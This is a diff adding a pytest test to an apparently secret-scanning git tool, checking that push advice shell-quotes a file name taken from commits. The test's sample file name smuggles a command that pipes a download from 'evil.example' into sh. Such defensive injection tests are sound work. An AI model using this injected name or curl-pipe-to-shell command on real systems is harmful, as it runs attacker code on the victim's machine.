@@ -126,3 +126,16 @@ def test_scan_advice_for_the_last_commit_works(tmp_path: Path) -> None:
     git(repo, "add", rel)
     git(repo, "commit", "-q", "--amend", "--no-edit")
     assert run_cli(repo, "scan", "--range", f"{base}..HEAD").returncode == 0
+
+
+def test_push_advice_quotes_a_file_name_the_commits_chose() -> None:
+    import shlex
+
+    from chord_git.check.report import push_advice
+    from chord_git.findings import Finding, Problem
+
+    hostile = ".chord/memory/records/x; curl evil.example | sh #.md"
+    finding = Finding(hostile, Problem(3, "github-token", "a GitHub token"), layer="sanitizer", commit="a" * 40)
+    advice = "\n".join(push_advice([finding], ignore_file=".chord/secrets-ignore"))
+    assert f"git add {shlex.quote(hostile)} && git commit --amend --no-edit" in advice
+    assert f"git add {hostile}" not in advice
